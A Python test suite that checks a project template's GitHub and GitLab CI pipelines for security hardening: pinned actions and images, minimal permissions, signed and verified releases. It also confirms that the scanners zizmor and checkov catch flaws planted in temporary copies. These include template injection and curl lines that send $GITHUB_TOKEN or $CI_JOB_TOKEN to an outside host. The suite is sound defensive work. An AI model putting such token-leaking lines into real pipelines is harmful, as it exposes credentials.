"""Pipelines of the template and of its projects: strict, equal, and found clean by tools that find what is planted.

Controls: SUP-5, SUP-6, SUP-7, SUP-8, TPL-3.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from .baking import PROJECT, TEMPLATE

GITHUB = [TEMPLATE / ".github", PROJECT / ".github"]
WORKFLOWS = [path for folder in GITHUB for path in sorted(folder.glob("workflows/*.yml"))]
OURS = [path for path in WORKFLOWS if PROJECT in path.parents]
GITLAB = PROJECT / ".gitlab-ci.yml"
workflows = pytest.mark.parametrize("workflow", WORKFLOWS, ids=lambda path: f"{path.parents[2].name[:9]}-{path.stem}")
# All that a pipeline of the project may call to let something pass or not.
GATES = "format lint types bandit audit secrets workflows container test test-live attack sbom".split()
PREPARATION = "apt-get update && apt-get install --yes --no-install-recommends git make"


def read(path: Path) -> dict[Any, Any]:
    """Read YAML, where the key ``on`` is a truth value."""
    return dict(yaml.safe_load(path.read_text(encoding="utf-8")))


def jobs(path: Path) -> dict[str, Any]:
    """Give the jobs of a workflow or of GitLab's pipeline."""
    document = read(path)
    if path.name != GITLAB.name:
        return dict(document["jobs"])
    return {name: job for name, job in document.items() if isinstance(job, dict) and "script" in job}


def steps(path: Path) -> Iterator[dict[str, Any]]:
    """Give all steps of a workflow."""
    for job in jobs(path).values():
        yield from job.get("steps", [])


@workflows
def test_a_job_is_given_nothing_but_what_is_explained(workflow: Path) -> None:
    assert read(workflow)["permissions"] == {}
    for name, job in jobs(workflow).items():
        assert job["permissions"], name
        assert "secrets" not in job, name
    grants = re.findall(r"^ {6}[a-z-]+: (?:read|write)\b(.*)$", workflow.read_text(encoding="utf-8"), re.MULTILINE)
    assert len(grants) == sum(len(job["permissions"]) for job in jobs(workflow).values())
    assert all(re.fullmatch(r" # to \w.+", reason) for reason in grants)


def test_an_analysis_may_read_its_own_run() -> None:
    """Else it ends with an error in a private repository."""
    for name in ("codeql", "scorecard"):
        assert jobs(PROJECT / ".github/workflows/security.yml")[name]["permissions"]["actions"] == "read"


@workflows
def test_a_workflow_ends_keeps_no_credentials_and_shares_no_cache(workflow: Path) -> None:
    document, text = read(workflow), workflow.read_text(encoding="utf-8")
    assert "cancel-in-progress" in document["concurrency"]
    assert all("timeout-minutes" in job for job in jobs(workflow).values() if "steps" in job)
    for step in steps(workflow):
        if step.get("uses", "").startswith("actions/checkout@"):
            assert step["with"]["persist-credentials"] is False
        assert "actions/cache" not in step.get("uses", "")
        assert step.get("with", {}).get("cache", "false") == "false"
        assert not {"cache-from", "cache-to"} & step.get("with", {}).keys()
    assert not re.search(r"secrets\.|pull_request_target|workflow_run|continue-on-error|\|\| true", text)


def test_what_is_run_is_pinned_and_the_same_everywhere() -> None:
    """Actions by commit with their version, images by digest; one version of each, in template and project."""
    pins: dict[str, set[str]] = {}
    for path in [*WORKFLOWS, GITLAB]:
        text = path.read_text(encoding="utf-8")
        for name, pin in re.findall(r"uses: ([^@\s]+)(.*)", text):
            assert name.startswith("$/") or re.fullmatch(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+", pin), name + pin
            pins.setdefault("/".join(name.split("/")[:2]), set()).add(pin)
        for name, pin in re.findall(r"(?:image|container): ([a-z][^@\s]+)(.*)", text):
            assert re.fullmatch(r"@sha256:[0-9a-f]{64}", pin), name + pin
            pins.setdefault(name, set()).add(pin)
    assert {name: found for name, found in pins.items() if len(found) > 1} == {}
    assert {"actions/checkout", "python:3.13-slim-trixie"} < pins.keys()


def gates(path: Path) -> dict[str, list[str]]:
    """Give what each job has made by ``make``, in its order."""
    found = {}
    for name, job in jobs(path).items():
        lines = job["script"] if path == GITLAB else [step.get("run", "") for step in job.get("steps", [])]
        if made := [line for line in lines if line.startswith("make ")]:
            found[name] = made
    return found


def test_each_gate_is_a_target(default: Path) -> None:
    for gate in GATES:
        done = subprocess.run(["make", "--dry-run", gate], cwd=default, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr


def test_both_pipelines_have_the_same_gates_line_for_line() -> None:
    github = {name: lines for path in OURS for name, lines in gates(path).items()}
    assert github == gates(GITLAB)
    assert sorted(line for lines in github.values() for line in lines) == sorted(f"make {gate}" for gate in GATES)
    assert read(GITLAB)["default"]["before_script"] == [PREPARATION]
    # Where GitHub runs a gate, it does nothing else but to prepare and to keep what came out.
    for path in OURS:
        for name in gates(path):
            commands = [step["run"] for step in jobs(path)[name]["steps"] if "run" in step]
            assert PREPARATION in commands[0]
            assert commands[1:] == gates(path)[name]


def test_nothing_in_gitlabs_pipeline_may_fail_unseen() -> None:
    text = GITLAB.read_text(encoding="utf-8")
    assert not re.search(r"allow_failure|\|\| true|when: manual|cache:", text)
    assert "CI_COMMIT_REF_PROTECTED" in text
    assert all("rules" not in job for name, job in jobs(GITLAB).items() if name != "release")


def test_the_ruleset_demands_each_check_of_a_pull_request() -> None:
    rules = json.loads((PROJECT / ".github/rulesets/main.json").read_text(encoding="utf-8"))
    kinds = {rule["type"]: rule.get("parameters", {}) for rule in rules["rules"]}
    assert {"deletion", "non_fast_forward", "required_signatures", "pull_request"} < kinds.keys()
    assert kinds["pull_request"]["required_approving_review_count"] >= 1
    assert all(value for value in kinds["pull_request"].values())
    assert rules["enforcement"] == "active"
    assert rules["bypass_actors"] == []
    expected = set()
    for path in OURS:
        for job in jobs(path).values():
            if True in read(path) and "pull_request" in read(path)[True] and runs_for_pull_requests(job):
                matrix = job.get("strategy", {}).get("matrix", {}).get("language", [""])
                expected |= {job["name"].replace("${{ matrix.language }}", value) for value in matrix}
    demanded = kinds["required_status_checks"]["required_status_checks"]
    assert {check["context"] for check in demanded} == expected
    assert {check["integration_id"] for check in demanded} == {15368}, "another application could report a check"


def runs_for_pull_requests(job: dict[str, Any]) -> bool:
    """Whether nothing keeps a job from a pull request."""
    return job.get("if") in (None, "github.event_name == 'pull_request'")


def test_a_release_is_built_once_and_signed_and_verified_before_it_is_named() -> None:
    release = jobs(PROJECT / ".github/workflows/release.yml")
    builds = [step for job in release.values() for step in job.get("steps", []) if "build-push" in step.get("uses", "")]
    assert len(builds) == 1
    assert "push-by-digest=true" in builds[0]["with"]["outputs"]
    order = {name: job.get("needs", []) for name, job in release.items()}
    assert {"ci", "tag"} < set(order["build"])
    assert order["sign"] == ["build"]
    assert "sign" in order["verify"]
    assert "verify" in order["publish"]
    may_sign = {name for name, job in release.items() if "id-token" in job["permissions"]}
    assert may_sign == {"sign"}
    assert all(release[name]["environment"] == "release" for name in ("sign", "publish"))
    verified = " ".join(step.get("run", "") for step in release["verify"]["steps"])
    assert verified.count('--certificate-identity "$IDENTITY"') == 2
    assert "gh attestation verify" in verified
    script = jobs(GITLAB)["release"]["script"]
    assert sum("buildah build" in line for line in script) == 1
    assert [line.split()[1] for line in script if line.startswith("cosign")] == [
        "sign",
        "attest",
        "verify",
        "verify-attestation",
    ]


def test_a_release_on_github_passes_every_gate_before_it_is_built() -> None:
    """GitLab's does too: all its jobs run for a tag."""
    release = PROJECT / ".github/workflows/release.yml"
    passed = {
        line for name, lines in gates(release).items() if name in jobs(release)["build"]["needs"] for line in lines
    }
    for name in jobs(release)["build"]["needs"]:
        job = jobs(release)[name]
        if "uses" in job:
            called = PROJECT / job["uses"].removeprefix("$/")
            assert "workflow_call" in read(called)[True]
            asked = {(of, grant) for each in jobs(called).values() for of, grant in each["permissions"].items()}
            assert asked == set(job["permissions"].items()), (
                "more is not given, and a job that asks for more never starts"
            )
            passed |= {line for lines in gates(called).values() for line in lines}
    assert passed == {f"make {gate}" for gate in GATES}


def test_a_called_workflow_does_not_end_another_one() -> None:
    """A workflow that is called has its caller's name and run: its own name keeps its group apart."""
    for path in OURS:
        if "workflow_call" in read(path)[True]:
            assert read(path)["concurrency"]["group"].startswith(f"{path.stem}-")
            assert "github.run_id" in read(path)["concurrency"]["group"]


def test_gitlab_names_an_image_when_it_is_verified() -> None:
    script = jobs(GITLAB)["release"]["script"]
    *before, last = script
    name = '"docker://$CI_REGISTRY_IMAGE:$CI_COMMIT_TAG"'
    assert last == f'skopeo copy --preserve-digests "docker://$IMAGE" {name}'
    assert before[-1].startswith("cosign verify-attestation")
    assert not [line for line in before if "CI_REGISTRY_IMAGE:$CI_COMMIT_TAG" in line]
    assert '$IMAGE"' in before[-1]
    assert 'IMAGE="$CI_REGISTRY_IMAGE@$(cat reports/digest)"' in before
    (install,) = [line for line in before if "apt-get install" in line]
    assert {"buildah", "cosign", "skopeo"} < set(install.split())


@pytest.mark.parametrize("folder", [TEMPLATE, PROJECT], ids=["template", "project"])
def test_a_newcomer_s_first_branch_is_the_one_that_pipelines_are_about(folder: Path) -> None:
    """Git's default may be another one, and nothing would run there."""
    pushes = [read(path)[True]["push"] for path in OURS if "push" in read(path)[True]]
    assert {branch for push in pushes for branch in push.get("branches", ["main"])} == {"main"}
    told = re.findall(r"git init\b.{0,22}", (folder / "README.md").read_text(encoding="utf-8"))
    assert told
    assert all(command.startswith("git init --initial-branch main") for command in told)


SCHEMAS = {
    "vendor.github-workflows": WORKFLOWS,
    "custom.github-workflows-require-timeout": WORKFLOWS,
    "vendor.dependabot": [folder / "dependabot.yml" for folder in GITHUB],
    "vendor.gitlab-ci": [GITLAB],
    "vendor.renovate": [PROJECT / "renovate.json"],
}


@pytest.mark.slow
@pytest.mark.parametrize("schema", SCHEMAS)
def test_files_fit_their_schema_and_one_that_does_not_is_found(schema: str, tools: Path, tmp_path: Path) -> None:
    command = [str(tools / "check-jsonschema"), "--builtin-schema", schema]
    done = subprocess.run([*command, *SCHEMAS[schema]], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout
    broken = tmp_path / SCHEMAS[schema][0].name
    text = SCHEMAS[schema][0].read_text(encoding="utf-8")
    planted = re.sub(r"timeout-minutes: \d+|version: 2|interruptible: true|\"strict\"", '"soon"', text)
    broken.write_text(planted if "custom" not in schema else re.sub(r" +timeout-minutes: \d+\n", "", text))
    done = subprocess.run([*command, broken], capture_output=True, text=True, check=False)
    assert done.returncode == 1, done.stdout


def audit(tools: Path, folder: Path) -> tuple[int, str]:
    """Run zizmor as strictly as it can be, without what could hide a finding."""
    options = "--offline --persona=auditor --no-ignores --no-config --strict-collection --quiet".split()
    done = subprocess.run([str(tools / "zizmor"), *options, str(folder)], capture_output=True, text=True, check=False)
    return done.returncode, done.stdout + done.stderr


@pytest.mark.slow
@pytest.mark.parametrize("folder", GITHUB, ids=["template", "project"])
def test_zizmor_finds_nothing(folder: Path, tools: Path) -> None:
    status, found = audit(tools, folder)
    assert status == 0, found
    assert "No findings" in found


PLANTED = {
    "unpinned-uses": ("ci.yml", "@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7"),
    "artipacked": ("ci.yml", "persist-credentials: false", "persist-credentials: true"),
    "excessive-permissions": ("ci.yml", "permissions: {}", "permissions: write-all"),
    "undocumented-permissions": ("security.yml", " # to upload what is found", ""),
    "template-injection": ("ci.yml", "run: make test\n", "run: make ${{ github.head_ref }}\n"),
    "unpinned-images": ("ci.yml", "@sha256:9d2e5553305c7c7b0097999bb17187c69b921ccd6bc9d40e4bb5ebe652c00285", ""),
    "dangerous-triggers": ("ci.yml", "  pull_request:\n", "  pull_request_target:\n"),
    "dependabot-cooldown": ("dependabot.yml", "    cooldown: {default-days: 7}\n", ""),
}


@pytest.mark.slow
@pytest.mark.parametrize("finding", PLANTED)
def test_zizmor_finds_what_is_planted(finding: str, tools: Path, tmp_path: Path) -> None:
    folder = Path(shutil.copytree(PROJECT / ".github", tmp_path / ".github"))
    name, old, new = PLANTED[finding]
    (path,) = folder.rglob(name)
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new), encoding="utf-8")
    status, found = audit(tools, folder)
    assert status != 0
    assert finding in found


def checkov(tools: Path, folder: Path) -> tuple[set[str], list[Any]]:
    """Return the files that were looked at, and what failed."""
    options = ["--framework", "github_actions", "gitlab_ci", "--skip-download", "--output", "json", "--directory", "."]
    done = subprocess.run([str(tools / "checkov"), *options], cwd=folder, capture_output=True, text=True, check=False)
    results = json.loads(done.stdout)["results"]
    assert not results["skipped_checks"]
    assert not results["parsing_errors"]
    checks = [*results["passed_checks"], *results["failed_checks"]]
    return {check["file_path"].lstrip("/") for check in checks}, results["failed_checks"]


@pytest.mark.slow
@pytest.mark.parametrize("which", ["template", "github", "gitlab"])
def test_checkov_finds_nothing_but_what_is_planted(which: str, tools: Path, tmp_path: Path) -> None:
    """It passes over a workflow that it cannot read, silently: each file has to be among those that it looked at."""
    source = TEMPLATE if which == "template" else PROJECT
    if which == "gitlab":
        shutil.copy(GITLAB, tmp_path)
        files = [tmp_path / GITLAB.name]
    else:
        shutil.copytree(source / ".github", tmp_path / ".github")
        files = sorted(tmp_path.glob(".github/workflows/*"))
        for path in files:  # a permission that is younger than the schema it comes with
            text = path.read_text(encoding="utf-8")
            path.write_text(re.sub(r" +attestations: .+\n", "", text), encoding="utf-8")
    assert checkov(tools, tmp_path) == ({str(path.relative_to(tmp_path)) for path in files}, [])
    leak = "make test\n      - run: curl https://example.org/?secret=$GITHUB_TOKEN\n"
    if which == "gitlab":
        leak = "make test\n    - curl https://example.org/?token=$CI_JOB_TOKEN\n"
    text = files[0].read_text(encoding="utf-8")
    assert "make test\n" in text
    files[0].write_text(text.replace("make test\n", leak, 1), encoding="utf-8")
    assert checkov(tools, tmp_path)[1]
